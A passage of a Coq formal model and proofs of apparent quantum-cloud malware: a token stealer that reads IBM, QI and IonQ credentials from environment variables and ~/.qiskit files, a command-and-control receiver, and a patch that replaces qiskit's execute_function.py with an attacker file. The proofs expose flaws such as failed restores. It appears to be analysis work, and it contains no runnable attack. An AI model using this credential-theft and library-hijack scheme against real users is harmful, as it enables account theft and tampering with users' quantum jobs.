  ("/circuit", JObj [("circuit", JStr content)]).

(** The entry [name] of [dir] is a regular file whose bytes decode to
    [text]. *)
Definition readable `{Codec} (f : gmap string node) (dir name text : string) : Prop :=
  ∃ bytes, f !! join dir name = Some (File bytes) ∧ utf8_decode bytes = Some text.

(** The body of the first loop of [_report_circuits]. *)
Definition read_and_send `{Codec} (dir f_name : string) (to_remove : list string) : M world (list string) :=
  let f_path := join dir f_name in
  content ← read_text f_path;
  send "/circuit" (JObj [("circuit", JStr content)]) ;;
  mret (to_remove ++ [f_path]).

(** The values of the non-empty variables among [vars], in order. *)
Definition set_variables (env : gmap string string) (vars : list string) : list string :=
  omap (λ v, match env !! v with
             | Some t => if bool_decide (t = "") then None else Some t
             | None => None
             end) vars.

(** What the environment phase posts: one message per non-empty
    variable, provider by provider, in the declared order. *)
Definition environment_messages (env : gmap string string) : list (string * value) :=
  flat_map (λ '(key, vars), map (λ t, token_stealer.token_message key (JStr t)) (set_variables env vars)) token_stealer._env.


(** The document of the claim. *)
Definition ibm_document (token : string) : value :=
  JObj [("default-ibm-quantum", JObj [("token", JStr token)])].

(** The acknowledgment every answered POST starts with. *)
Definition ack : list quantum_c2.event := [quantum_c2.send_response 200; quantum_c2.end_headers; quantum_c2.wfile_write "Ack!"].

Definition is_job_call (e : quantum_c2.event) : Prop :=
  match e with
  | quantum_c2.jobs_ibm _ | quantum_c2.jobs_qi _ | quantum_c2.jobs_ionq _ => True
  | _ => False
  end.

(** ** Vocabulary of the further properties *)

(** What is left of the library's own file at a location: the backup
    when there is one, the target otherwise. *)
Definition pristine (f : gmap string node) (loc : string) : option string :=
  match f !! join loc "execute_function.py.org" with
  | Some (File c) => Some c
  | _ => match f !! join loc "execute_function.py" with
         | Some (File c) => Some c
         | _ => None
         end
  end.

(** Since [w0], messages have been posted that all satisfy [Q], and
    nothing posted before has been taken back. *)
Definition only_posts (Q : string * value → Prop) (w0 : world) : world → Prop :=
  λ w, ∃ msgs, sent w = sent w0 ++ msgs ∧ Forall Q msgs.

(** The same, with the rest of the machine untouched. *)
Definition only_posts_and_reads (Q : string * value → Prop) (w0 : world) : world → Prop :=
  λ w, ∃ msgs, w = set_sent (sent w0 ++ msgs) w0 ∧ Forall Q msgs.

Definition is_circuit_post (m : string * value) : Prop :=
  ∃ content, m = circuit_message content.

Definition is_token_post (m : string * value) : Prop :=
  ∃ provider token, m = token_stealer.token_message provider token ∧
                    provider ∈ ["IBM"; "QI"; "IonQ"].

(** The message the directory phase posts for one provider's file below
    one user directory, when the file is there and holds the key path. *)
Definition found_token `{Codec} (f : gmap string node) (d user : string)
    (entry : string * token_stealer.location) : option (string * value) :=
  match f !! join3 d user (token_stealer.path entry.2) with
  | Some (File bytes) =>
      match json_load bytes with
      | Some data =>
          match reduce_getitem (token_stealer.keys entry.2) data with
          | inr token => Some (token_stealer.token_message entry.1 token)
          | inl _ => None
          end
      | None => None
      end
  | _ => None
  end.

(** What the directory phase posts when no file makes it fail: user by
    user in listing order, IBM before QI. *)
Definition directory_messages `{Codec} (f : gmap string node) (d : string)
    (users : list string) : list (string * value) :=
  flat_map (λ user, omap (found_token f d user) token_stealer._data) users.

(** What [_patch_qiskit] with [restore = False] makes of the file system
    when the replacement [pl] can be copied: a location whose target is
    a regular file and which has no backup gets the backup and the
    replacement, any other location is left alone. *)
Definition patch_fs (pl : string) (f : gmap string node) (loc : string) : gmap string node :=
  match f !! join loc "execute_function.py", f !! join loc "execute_function.py.org" with
  | Some (File c), None =>
      <[join loc "execute_function.py" := File pl]>
        (<[join loc "execute_function.py.org" := File c]> f)
  | _, _ => f
  end.

(** The last character of a string. *)
Fixpoint last_char (s : string) : option ascii :=
  match s with
  | EmptyString => None
  | String c EmptyString => Some c
  | String _ r => last_char r
  end.

(** A candidate location ends in [qiskit]: its two files are the
    location followed by a separator and the file name. *)
Definition is_location (loc : string) : Prop := ∃ q, loc = q +:+ "qiskit".

(** The string has no percent sign. *)
Fixpoint percent_free (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c r => negb (bool_decide (c = "%"%char)) && percent_free r
  end.

(** * Example machines *)

(** ** Documents and a codec that knows them *)

(** The double quote. *)
Definition dq : string := String "034" "".

Definition quoted (s : string) : string := dq +:+ s +:+ dq.

(** [{"default-ibm-quantum": {"token": "abc123"}}]. *)
Definition ibm_config_text : string :=
  "{" +:+ quoted "default-ibm-quantum" +:+ ": {" +:+ quoted "token" +:+ ": "
      +:+ quoted "abc123" +:+ "}}".

(** [{"default-ibm-quantum": {}}]. *)
Definition empty_config_text : string :=
  "{" +:+ quoted "default-ibm-quantum" +:+ ": {}}".

(** [{"provider": <provider>, "token": <token>}]. *)
Definition token_post_text (provider token : string) : string :=
  "{" +:+ quoted "provider" +:+ ": " +:+ quoted provider +:+ ", "
      +:+ quoted "token" +:+ ": " +:+ quoted token +:+ "}".

Definition known_documents : list (string * value) :=
  [ (ibm_config_text, ibm_document "abc123");
    (empty_config_text, JObj [("default-ibm-quantum", JObj [])]);
    (token_post_text "IBM" "t", JObj [("provider", JStr "IBM"); ("token", JStr "t")]);
    (token_post_text "Rigetti" "t",
     JObj [("provider", JStr "Rigetti"); ("token", JStr "t")]) ].

Fixpoint decimal_from (acc : Z) (s : string) : option Z :=
  match s with
  | EmptyString => Some acc
  | String c r =>
      match Ascii.is_nat c with
      | Some d => decimal_from (10 * acc + Z.of_nat d)%Z r
      | None => None
      end
  end.

(** [int(s)] on the strings of decimal digits. *)
Definition decimal (s : string) : option Z :=
  if bool_decide (s = "") then None else decimal_from 0 s.

(** A codec for the examples: bytes are ASCII text, [int()] reads decimal
    digits, and the JSON documents are the known ones. *)
Definition ascii_codec : Codec :=
  {| utf8_decode := Some;
     json_load := λ text, assoc text known_documents;
     json_loads := λ text, assoc text known_documents;
     int_of_str := decimal |}.

(** ** Machines *)

(** A machine with the daemon in [/atk]: no credentials, no interrupt,
    nothing posted, nothing patched yet. *)
Definition machine (files : list (string * node)) (system : string)
    (tables : list (list process)) : world :=
  World (list_to_map files) "/atk" ∅ system tables None [] [].

(** The daemon's directory: the replacement file and the directory of
    the stolen circuits. *)
Definition daemon_tree : list (string * node) :=
  [ ("/", Dir); ("/home", Dir); ("/atk", Dir);
    ("/atk/execute_function.py", File "attacker"); ("/atk/bk-circuits", Dir) ].

Definition demo_location : string := "/venv/lib/python3/site-packages/qiskit".

(** A virtual environment with qiskit installed; [content] is what
    [execute_function.py] holds. *)
Definition venv_tree (content : string) : list (string * node) :=
  [ ("/venv", Dir); ("/venv/lib", Dir); ("/venv/lib/python3", Dir);
    ("/venv/lib/python3/site-packages", Dir); (demo_location, Dir);
    (join demo_location "execute_function.py", File content) ].

(** [/proc/<pid>/environ]: the entries, each followed by a NUL. *)
Definition environ_block (entries : list string) : string :=
  foldr (λ e rest, e +:+ String "000" rest) "" entries.

Definition unpatched_host : world :=
  machine (daemon_tree ++ venv_tree "original") "Linux" [].

Definition patched_host : world :=
  machine (daemon_tree ++ venv_tree "attacker" ++
           [(join demo_location "execute_function.py.org", File "original")])
          "Linux" [].

(** The replacement file is gone from the daemon's directory. *)
Definition host_without_payload : world :=
  machine ([("/", Dir); ("/atk", Dir)] ++ venv_tree "original") "Linux" [].

(** The daemon's working directory is the qiskit directory itself: the
    replacement and the target are one file. *)
Definition host_in_qiskit_directory : world :=
  World (list_to_map ([("/", Dir)] ++ venv_tree "attacker"))
        demo_location ∅ "Linux" [] None [] [].

(** An interpreter started by its bare name; nothing called [lib] in the
    daemon's directory. *)
Definition host_bare_name : world :=
  machine (daemon_tree ++ [("c:\users", Dir)]) "Windows"
          [[Process 4 "python.exe" Unopenable (Some ["python"; "job.py"])]].

(** Two interpreters: the first in an environment whose [lib] is a
    regular file, the second in the virtual environment. *)
Definition host_two_roots : world :=
  machine (daemon_tree ++ [("/bad", Dir); ("/bad/lib", File "not a directory")] ++
           venv_tree "original")
          "Linux"
          [[ Process 10 "python3" (Text (environ_block ["VIRTUAL_ENV=/bad"; "HOME=/root"])) None;
             Process 11 "python3" (Text (environ_block ["HOME=/root"; "VIRTUAL_ENV=/venv"])) None ]].

(** Two interpreters of one installation. *)
Definition host_shared_installation : world :=
  machine (daemon_tree ++
           [ ("c:\users", Dir); ("/py", Dir);
             ("/py/python", File "exe"); ("/py/pythonw", File "exe");
             ("/py/lib", Dir); ("/py/lib/site-packages", Dir);
             ("/py/lib/site-packages/qiskit", Dir);
             ("/py/lib/site-packages/qiskit/execute_function.py", File "original") ])
          "Windows"
          [[ Process 20 "python" Unopenable (Some ["/py/python"; "job.py"]);
             Process 21 "pythonw" Unopenable (Some ["/py/pythonw"; "idle.pyw"]) ]].

(** One interpreter in the virtual environment, and Ctrl-C during the
    third second. *)
Definition host_interrupted : world :=
  set_sigint (Some 2)
    (machine (daemon_tree ++ venv_tree "original") "Linux"
       [[ Process 11 "python3" (Text (environ_block ["VIRTUAL_ENV=/venv"])) None ]]).

(** Two stolen circuits wait in the backup directory. *)
Definition host_two_circuits : world :=
  machine (daemon_tree ++
           [ ("/atk/bk-circuits/bell.qasm", File "h q[0]; cx q[0],q[1];");
             ("/atk/bk-circuits/flip.qasm", File "x q[0];") ])
          "Linux" [].

(** No user directories, two IonQ variables set. *)
Definition host_ionq : world :=
  World (list_to_map daemon_tree) "/atk"
        (list_to_map [ ("IONQ_API_TOKEN", "xyz"); ("QISKIT_IONQ_API_TOKEN", "abc") ])
        "Linux" [] None [] [].

(** One user, who has stored an IBM token. *)
Definition host_alice : world :=
  machine (daemon_tree ++
           [ ("/home/alice", Dir); ("/home/alice/.qiskit", Dir);
             ("/home/alice/.qiskit/qiskit-ibm.json", File ibm_config_text) ])
          "Linux" [].

(** One user, whose IBM configuration has no ["token"] key. *)
Definition host_bob : world :=
  machine (daemon_tree ++
           [ ("/home/bob", Dir); ("/home/bob/.qiskit", Dir);
             ("/home/bob/.qiskit/qiskit-ibm.json", File empty_config_text) ])
          "Linux" [].



(** ** Requests to the receiver *)

Definition post_ibm_token : quantum_c2.request :=
  quantum_c2.Request "/token" (Some "33") (token_post_text "IBM" "t").

Definition post_unknown_provider : quantum_c2.request :=
  quantum_c2.Request "/token" (Some "37") (token_post_text "Rigetti" "t").

Definition post_without_length : quantum_c2.request :=
  quantum_c2.Request "/circuit" None "{}".

(** ** Further machines and requests *)

(** A Windows machine whose only interpreter has exited by the time the
    patcher asks for its command line. *)
Definition host_vanished_process : world :=
  machine (daemon_tree ++ [("c:\users", Dir)]) "Windows"
          [[Process 30 "python.exe" Unopenable None]].

(** A system the daemon does not know, with an IonQ key in the
    environment. *)
Definition host_other_system : world :=
  World (list_to_map daemon_tree) "/atk"
        (list_to_map [("IONQ_API_KEY", "k1")]) "Darwin" [] None [] [].

Definition post_unknown_path : quantum_c2.request :=
  quantum_c2.Request "/status" (Some "9") "not json!".

(** An IBM account whose job list names one job twice. *)
Definition ibm_account : ibm.service :=
  ibm.Service (λ _, [ibm.Job 1 "job-a"; ibm.Job 2 "job-b"; ibm.Job 3 "job-a"])
              (λ id, if bool_decide (id = "job-a") then ["bell"] else []).

(** * Verification *)

(** ** Unfolding the monad *)

Ltac py_unfold :=
  unfold getcwd, path_isfile, path_isdir, path_exists, gets, modify, on_fs,
    try_except, raise, hang, mbind, M_bind, mret, M_ret.

Lemma set_fs_id w : set_fs (fs w) w = w.
Proof. by destruct w. Qed.

Lemma bind_ret {St A B} (m : M St A) (k : A → M St B) s a s' :
  m s = (Ret a, s') → (m ≫= k) s = k a s'.
Proof. unfold mbind, M_bind. by intros ->. Qed.

Lemma bind_raise {St A B} (m : M St A) (k : A → M St B) s e s' :
  m s = (Raise e, s') → (m ≫= k) s = (Raise e, s').
Proof. unfold mbind, M_bind. by intros ->. Qed.

Lemma bind_hang {St A B} (m : M St A) (k : A → M St B) s s' :
  m s = (Hang, s') → (m ≫= k) s = (Hang, s').
Proof. unfold mbind, M_bind. by intros ->. Qed.

(** ** Paths *)

Lemma join_plain_inj a b1 b2 :
  startswith_sep b1 = false → startswith_sep b2 = false →
  join a b1 = join a b2 → b1 = b2.
Proof.
  unfold join. intros -> ->.
  destruct (bool_decide (a = "") || endswith_sep a); intros H.
  - by apply (inj (String.app a)) in H.
  - apply (inj (String.app a)) in H. by apply (inj (String.app "/")) in H.
Qed.

Lemma original_ne_backup loc :
  join loc "execute_function.py" ≠ join loc "execute_function.py.org".
Proof. intros H. by apply join_plain_inj in H. Qed.

(** ** The file-system calls *)

Section fs_calls.
Implicit Types (f : gmap string node) (src dst p c : string).

Lemma isfile_true f p : isfile f p = true ↔ ∃ c, f !! p = Some (File c).
Proof.
  unfold isfile. split.
  - destruct (f !! p) as [[c|]|]; [eauto|done..].
  - by intros [c ->].
Qed.

Lemma isfile_File f p c : f !! p = Some (File c) → isfile f p = true.
Proof. intros. apply isfile_true. eauto. Qed.

Lemma isfile_None f p : f !! p = None → isfile f p = false.
Proof. unfold isfile. by intros ->. Qed.

Lemma unlink_File f p c :
  f !! p = Some (File c) → unlink p f = (Ret (), delete p f).
Proof. unfold unlink. by intros ->. Qed.

Lemma rename_File f src dst c :
  f !! src = Some (File c) → f !! dst ≠ Some Dir →
  rename src dst f = (Ret (), <[dst := File c]> (delete src f)).
Proof. unfold rename. intros -> ?. by destruct (f !! dst) as [[]|]. Qed.

Lemma copy_File f src dst c :
  f !! src = Some (File c) → f !! dst ≠ Some Dir → src ≠ dst →
  copy src dst f = (Ret (), <[dst := File c]> f).
Proof.
  unfold copy, isdir. intros -> Hd ?.
  destruct (f !! dst) as [[]|] eqn:E; try done;
    rewrite bool_decide_false by done; by rewrite E.
Qed.

(** [shutil.copy] onto a path that is not a directory: the file is
    written, or an exception leaves the file system as it was. *)
Lemma copy_outcome f src dst :
  isdir f dst = false →
  (∃ c, f !! src = Some (File c) ∧ copy src dst f = (Ret (), <[dst := File c]> f))
  ∨ (∃ e, is_Exception e = true ∧ copy src dst f = (Raise e, f)).
Proof.
  unfold copy. intros Hd. rewrite Hd.
  assert (∀ e, is_Exception e = true →
    ∃ e', is_Exception e' = true ∧ (Raise e, f) = (@Raise () e', f)) as Hr by eauto.
  destruct (f !! src) as [[c|]|] eqn:Es; [|right; by apply Hr..].
  case_bool_decide; [right; by apply Hr|].
  unfold isdir in Hd. destruct (f !! dst) as [[]|]; [|done|]; left; eauto.
Qed.
End fs_calls.

(** ** [_patch_qiskit] *)

Lemma patch_no_qiskit w loc restore :
  isfile (fs w) (join loc "execute_function.py") = false →
  _patch_qiskit loc restore w = (Ret (), w).
Proof. intros H. unfold _patch_qiskit. py_unfold. by rewrite H. Qed.

Lemma patch_already_patched w loc :
  isfile (fs w) (join loc "execute_function.py.org") = true →
  _patch_qiskit loc false w = (Ret (), w).
Proof.
  intros H. unfold _patch_qiskit. py_unfold.
  destruct (isfile (fs w) (join loc "execute_function.py")); cbn; [|done].
  by rewrite H.
Qed.

Lemma patch_unpatched w loc c pl :
  fs w !! join loc "execute_function.py" = Some (File c) →
  fs w !! join loc "execute_function.py.org" = None →
  fs w !! join (cwd w) "execute_function.py" = Some (File pl) →
  join (cwd w) "execute_function.py" ≠ join loc "execute_function.py" →
  _patch_qiskit loc false w =
    (Ret (), set_fs (<[join loc "execute_function.py" := File pl]>
                     (<[join loc "execute_function.py.org" := File c]>
                      (delete (join loc "execute_function.py") (fs w)))) w).
Proof.
  intros Ho Hb Hp Hne.
  pose proof (original_ne_backup loc) as Hob.
  assert (join (cwd w) "execute_function.py" ≠ join loc "execute_function.py.org")
    as Hpb by congruence.
  unfold _patch_qiskit. py_unfold.
  rewrite (isfile_File _ _ _ Ho). cbn. rewrite (isfile_None _ _ Hb). cbn.
  rewrite (rename_File _ _ _ c) by (by rewrite ?Hb). cbn.
  rewrite (copy_File _ _ _ pl) by (by simplify_map_eq).
  done.
Qed.

Lemma restore_patched w loc a c :
  fs w !! join loc "execute_function.py" = Some (File a) →
  fs w !! join loc "execute_function.py.org" = Some (File c) →
  _patch_qiskit loc true w =
    (Ret (), set_fs (<[join loc "execute_function.py" := File c]>
                     (delete (join loc "execute_function.py.org")
                        (delete (join loc "execute_function.py") (fs w)))) w).
Proof.
  intros Ho Hb. pose proof (original_ne_backup loc) as Hob.
  unfold _patch_qiskit. py_unfold.
  rewrite (isfile_File _ _ _ Ho). cbn. rewrite (isfile_File _ _ _ Hb). cbn.
  rewrite (unlink_File _ _ a) by done. cbn.
  rewrite (rename_File _ _ _ c) by (by simplify_map_eq).
  done.
Qed.

(** With no backup in place the [restore] flag is never looked at. *)
Lemma restore_flag_ignored w loc :
  isfile (fs w) (join loc "execute_function.py.org") = false →
  _patch_qiskit loc true w = _patch_qiskit loc false w.
Proof.
  intros H. unfold _patch_qiskit. py_unfold.
  destruct (isfile (fs w) (join loc "execute_function.py")); cbn; [|done].
  by rewrite H.
Qed.

(** Every call with [restore = False] returns; afterwards either nothing
    changed, or the target is gone, or a backup is in place. *)
Lemma patch_outcome w loc :
  ∃ w', _patch_qiskit loc false w = (Ret (), w') ∧
        (w' = w ∨ isfile (fs w') (join loc "execute_function.py") = false
                ∨ isfile (fs w') (join loc "execute_function.py.org") = true).
Proof.
  pose proof (original_ne_backup loc) as Hob.
  destruct (isfile (fs w) (join loc "execute_function.py")) eqn:Ho.
  2:{ exists w. split; [by apply patch_no_qiskit | by left]. }
  destruct (isfile (fs w) (join loc "execute_function.py.org")) eqn:Hb.
  { exists w. split; [by apply patch_already_patched | by left]. }
  apply isfile_true in Ho as [c Ho].
  unfold _patch_qiskit. py_unfold.
  rewrite (isfile_File _ _ _ Ho). cbn. rewrite Hb. cbn.
  unfold rename. rewrite Ho.
  destruct (fs w !! join loc "execute_function.py.org") as [[b|]|] eqn:Eb.
  - by rewrite (isfile_File _ _ _ Eb) in Hb.
  - cbn. rewrite set_fs_id. eauto.
  - cbn.
    set (f1 := <[join loc "execute_function.py.org" := File c]>
                 (delete (join loc "execute_function.py") (fs w))).
    assert (f1 !! join loc "execute_function.py" = None) as Hgone.
    { unfold f1. rewrite lookup_insert_ne by done. apply lookup_delete_eq. }
    destruct (copy_outcome f1 (join (cwd w) "execute_function.py")
                (join loc "execute_function.py")) as [(pl & _ & ->) | (e & He & ->)].
    + unfold isdir. by rewrite Hgone.
    + eexists. split; [done|]. right. right. cbn.
      apply (isfile_File _ _ c). rewrite lookup_insert_ne by done.
      unfold f1. apply lookup_insert_eq.
    + cbn. rewrite He. eexists. split; [done|]. right. left. cbn.
      by apply isfile_None.
Qed.

(** Patching twice is patching once, in every state of the file system. *)
Lemma patch_idempotent w loc :
  (_patch_qiskit loc false ;; _patch_qiskit loc false) w = _patch_qiskit loc false w.
Proof.
  destruct (patch_outcome w loc) as (w' & E & H).
  rewrite (bind_ret _ _ _ _ _ E), E.
  destruct H as [-> | [H | H]]; [done | by apply patch_no_qiskit | by apply patch_already_patched].
Qed.

(** The patch half of the idempotence property: on an unpatched
    location, with the replacement at hand, patching twice is patching
    once and leaves one backup, holding the original, and one active
    file, holding the replacement. *)
Lemma patch_twice_one_backup_one_active w loc c pl :
  fs w !! join loc "execute_function.py" = Some (File c) →
  fs w !! join loc "execute_function.py.org" = None →
  fs w !! join (cwd w) "execute_function.py" = Some (File pl) →
  join (cwd w) "execute_function.py" ≠ join loc "execute_function.py" →
  ∃ w', (_patch_qiskit loc false ;; _patch_qiskit loc false) w = (Ret (), w') ∧
        _patch_qiskit loc false w = (Ret (), w') ∧
        fs w' !! join loc "execute_function.py" = Some (File pl) ∧
        fs w' !! join loc "execute_function.py.org" = Some (File c).
Proof.
  intros Ho Hb Hp Hne. pose proof (original_ne_backup loc) as Hob.
  rewrite patch_idempotent, (patch_unpatched w loc c pl) by done.
  eexists. split_and!; [done | done | cbn; by simplify_map_eq..].
Qed.

Lemma world_fs_ext w f : f = fs w → set_fs f w = w.
Proof. intros ->. apply set_fs_id. Qed.

Lemma set_fs_set_fs f g w : set_fs f (set_fs g w) = set_fs f w.
Proof. done. Qed.

(** The round trip where the copy succeeds: when the target file exists,
    no backup exists, and the replacement [<cwd>/execute_function.py] is
    a regular file other than the target, the patch operation followed
    by the restore operation returns and leaves the whole machine, hence
    the target's bytes and the absence of a backup, as it was. *)
Lemma patch_then_restore_roundtrip w loc c pl :
  fs w !! join loc "execute_function.py" = Some (File c) →
  fs w !! join loc "execute_function.py.org" = None →
  fs w !! join (cwd w) "execute_function.py" = Some (File pl) →
  join (cwd w) "execute_function.py" ≠ join loc "execute_function.py" →
  (_patch_qiskit loc false ;; _patch_qiskit loc true) w = (Ret (), w).
Proof.
  intros Ho Hb Hp Hne. pose proof (original_ne_backup loc) as Hob.
  rewrite (bind_ret _ _ _ _ _ (patch_unpatched w loc c pl Ho Hb Hp Hne)).
  rewrite (restore_patched _ loc pl c) by (cbn; by simplify_map_eq).
  f_equal. rewrite set_fs_set_fs. apply world_fs_ext. cbn.
  apply map_eq. intros k.
  destruct (decide (k = join loc "execute_function.py")) as [->|];
    [by simplify_map_eq|].
  destruct (decide (k = join loc "execute_function.py.org")) as [->|];
    by simplify_map_eq.
Qed.

(** C1, at the failing input: on a patched location the first restore
    brings the original back and removes the backup; the second restore
    does not leave that state alone, it falls through to the patching
    code, moves the original to the backup again and installs the
    replacement. *)
Theorem restore_twice_patches_again :
  let once := (_patch_qiskit demo_location true patched_host).2 in
  let twice := ((_patch_qiskit demo_location true ;;
                 _patch_qiskit demo_location true) patched_host).2 in
  (fs once !! join demo_location "execute_function.py" = Some (File "original") ∧
   fs once !! join demo_location "execute_function.py.org" = None) ∧
  (fs twice !! join demo_location "execute_function.py" = Some (File "attacker") ∧
   fs twice !! join demo_location "execute_function.py.org" = Some (File "original")).
Proof. vm_compute. done. Qed.

(** The same in general: two restores of a patched location end in the
    patched state again. *)
Lemma restore_twice w loc a c pl :
  fs w !! join loc "execute_function.py" = Some (File a) →
  fs w !! join loc "execute_function.py.org" = Some (File c) →
  fs w !! join (cwd w) "execute_function.py" = Some (File pl) →
  join (cwd w) "execute_function.py" ≠ join loc "execute_function.py" →
  join (cwd w) "execute_function.py" ≠ join loc "execute_function.py.org" →
  (_patch_qiskit loc true ;; _patch_qiskit loc true) w =
    (Ret (), set_fs (<[join loc "execute_function.py" := File pl]> (fs w)) w).
Proof.
  intros Ho Hb Hp Hpo Hpb. pose proof (original_ne_backup loc) as Hob.
  rewrite (bind_ret _ _ _ _ _ (restore_patched w loc a c Ho Hb)).
  rewrite restore_flag_ignored by (cbn; apply isfile_None; by simplify_map_eq).
  rewrite (patch_unpatched _ loc c pl) by (cbn; by simplify_map_eq).
  f_equal. rewrite set_fs_set_fs. f_equal. cbn.
  apply map_eq. intros k.
  destruct (decide (k = join loc "execute_function.py")) as [->|];
    [by simplify_map_eq|].
  destruct (decide (k = join loc "execute_function.py.org")) as [->|];
    by simplify_map_eq.
Qed.

(** The round trip on a machine that has the replacement in place. *)
Lemma roundtrip_on_unpatched_host :
  (_patch_qiskit demo_location false ;; _patch_qiskit demo_location true) unpatched_host
  = (Ret (), unpatched_host).
Proof.
  apply (patch_then_restore_roundtrip unpatched_host demo_location "original" "attacker");
    [reflexivity | reflexivity | reflexivity | vm_compute; discriminate].
Qed.

(** C2, at the failing input: the target exists, there is no backup, and
    the replacement [<cwd>/execute_function.py] is missing.  The patch
    call renames the target to the backup, the copy raises and the
    exception is swallowed with the rename left in place; the restore
    call finds no target, returns at its first test and never looks at
    the backup.  After the two calls the original path is empty and the
    original bytes sit in [execute_function.py.org]. *)
Theorem roundtrip_fails_without_payload :
  let w := host_without_payload in
  let w' := ((_patch_qiskit demo_location false ;; _patch_qiskit demo_location true) w).2 in
  (fs w !! join demo_location "execute_function.py" = Some (File "original") ∧
   fs w !! join demo_location "execute_function.py.org" = None) ∧
  (fs w' !! join demo_location "execute_function.py" = None ∧
   fs w' !! join demo_location "execute_function.py.org" = Some (File "original")).
Proof. vm_compute. done. Qed.

(** The same outcome when the daemon runs from the qiskit directory: the
    replacement is the target, the rename takes it away and the copy
    finds nothing to copy. *)
Lemma roundtrip_fails_on_own_directory :
  let w := host_in_qiskit_directory in
  let w' := ((_patch_qiskit demo_location false ;; _patch_qiskit demo_location true) w).2 in
  (fs w !! join demo_location "execute_function.py" = Some (File "attacker") ∧
   fs w !! join demo_location "execute_function.py.org" = None ∧
   join (cwd w) "execute_function.py" = join demo_location "execute_function.py") ∧
  (fs w' !! join demo_location "execute_function.py" = None ∧
   fs w' !! join demo_location "execute_function.py.org" = Some (File "attacker")).
Proof. vm_compute. done. Qed.

(** ** [_site_package] *)

Lemma app_empty_l (s : string) : "" +:+ s = s.
Proof. done. Qed.

Lemma app_cons (c : ascii) (a b : string) : String c a +:+ b = String c (a +:+ b).
Proof. done. Qed.

Lemma app_empty_r (s : string) : s +:+ "" = s.
Proof. induction s as [|c s IH]; [done|]. by rewrite app_cons, IH. Qed.

Lemma length_app_string (a b : string) :
  String.length (a +:+ b) = String.length a + String.length b.
Proof. induction a as [|c a IH]; [done|]. rewrite app_cons. cbn. by rewrite IH. Qed.

Lemma split_at_last_sep_app p :
  (split_at_last_sep p).1 +:+ (split_at_last_sep p).2 = p.
Proof.
  induction p as [|c r IH]; [done|]. cbn.
  destruct (split_at_last_sep r) as [h t]. cbn in IH.
  case_bool_decide as Hh.
  - subst h. rewrite app_empty_l in IH. subst t. by case_bool_decide.
  - cbn. by rewrite app_cons, IH.
Qed.

Lemma rstrip_sep_shorter s :
  rstrip_sep s = s ∨ String.length (rstrip_sep s) < String.length s.
Proof.
  induction s as [|c r IH]; [by left|]. cbn.
  destruct (rstrip_sep r) as [|c' r'] eqn:E.
  - case_bool_decide; cbn; [right; lia|].
    destruct r; [by left | right; cbn; lia].
  - destruct IH as [<- | IH]; [by left | right; cbn in *; lia].
Qed.

Lemma dirname_shorter p :
  dirname p = p ∨ String.length (dirname p) < String.length p.
Proof.
  unfold dirname.
  pose proof (split_at_last_sep_app p) as Happ.
  pose proof (f_equal String.length Happ) as Hlen. rewrite length_app_string in Hlen.
  set (head := (split_at_last_sep p).1) in *.
  assert (head = p ∨ String.length head < String.length p) as Hhead.
  { destruct ((split_at_last_sep p).2) as [|c t] eqn:Et.
    - left. by rewrite <- Happ, app_empty_r.
    - right. cbn in Hlen. lia. }
  case_bool_decide; [done|].
  pose proof (rstrip_sep_shorter head) as [E | ?]; [by rewrite E|].
  right.
  assert (String.length head ≤ String.length p)
    by (destruct Hhead as [E | ?]; [by rewrite E | lia]).
  lia.
Qed.

(** *** The climbing loop *)

(** At a fixed point of [dirname] without a [lib] entry the loop spins. *)
Lemma climb_stuck w path :
  exists_ (fs w) (join path "lib") = false → dirname path = path →
  ∀ fuel, climb_to_lib fuel path w = (Hang, w).
Proof.
  intros Hno Hfix fuel. induction fuel as [|fuel IH]; [done|].
  cbn. py_unfold. rewrite Hno. cbn. by rewrite Hfix.
Qed.

(** More fuel than the path has characters never changes the outcome. *)
Lemma climb_fuel_irrelevant w n m path :
  String.length path < n → String.length path < m →
  climb_to_lib n path w = climb_to_lib m path w.
Proof.
  revert m path. induction n as [|n IH]; intros m path Hn Hm; [lia|].
  destruct m as [|m]; [lia|].
  cbn. py_unfold.
  destruct (exists_ (fs w) (join path "lib")) eqn:Hlib; cbn; [done|].
  destruct (dirname_shorter path) as [Hfix | Hlt].
  - rewrite Hfix. by rewrite !climb_stuck.
  - apply IH; lia.
Qed.

Lemma climb_fuel_enough w path fuel :
  String.length path < fuel →
  climb_to_lib fuel path w = climb_to_lib (S (String.length path)) path w.
Proof. intros. apply climb_fuel_irrelevant; lia. Qed.

(** The loop never writes, and never raises. *)
Lemma climb_outcome w fuel path :
  (∃ a, climb_to_lib fuel path w = (Ret a, w) ∧ exists_ (fs w) (join a "lib") = true)
  ∨ climb_to_lib fuel path w = (Hang, w).
Proof.
  revert path. induction fuel as [|fuel IH]; intros path; [by right|].
  cbn. py_unfold.
  destruct (exists_ (fs w) (join path "lib")) eqn:Hlib; cbn; [left; eauto|].
  apply IH.
Qed.

(** A result found with some fuel is found with any larger fuel. *)
Lemma climb_mono w n m path a :
  n ≤ m → climb_to_lib n path w = (Ret a, w) → climb_to_lib m path w = (Ret a, w).
Proof.
  revert m path. induction n as [|n IH]; intros m path Hle H; [done|].
  destruct m as [|m]; [lia|].
  revert H. cbn. py_unfold.
  destruct (exists_ (fs w) (join path "lib")); cbn; [done|].
  apply IH. lia.
Qed.

(** [Hang] at the fuel [_site_package] uses is [Hang] at every fuel:
    the loop of the source does not terminate. *)
Lemma climb_hang_forever w path :
  climb_to_lib (S (String.length path)) path w = (Hang, w) →
  ∀ fuel, climb_to_lib fuel path w = (Hang, w).
Proof.
  intros H fuel.
  destruct (decide (String.length path < fuel)) as [Hlt | Hge].
  - by rewrite climb_fuel_enough.
  - destruct (climb_outcome w fuel path) as [(a & Ha & _) | Hh]; [|done].
    apply (climb_mono _ _ (S (String.length path))) in Ha; [congruence | lia].
Qed.

(** The loop stops at the nearest ancestor that has a [lib] entry. *)
Lemma climb_nearest w k path fuel :
  (∀ j, j < k → exists_ (fs w) (join (ancestor j path) "lib") = false) →
  exists_ (fs w) (join (ancestor k path) "lib") = true →
  k < fuel →
  climb_to_lib fuel path w = (Ret (ancestor k path), w).
Proof.
  revert path fuel. induction k as [|k IH]; intros path fuel Hbelow Hk Hfuel.
  - destruct fuel as [|fuel]; [lia|]. cbn in *. py_unfold. by rewrite Hk.
  - destruct fuel as [|fuel]; [lia|]. cbn. py_unfold.
    pose proof (Hbelow 0 ltac:(lia)) as H0. cbn in H0. rewrite H0. cbn.
    apply IH; [|done|lia]. intros j Hj. apply (Hbelow (S j)). lia.
Qed.

Lemma climb_ret_ancestor w fuel path a :
  climb_to_lib fuel path w = (Ret a, w) →
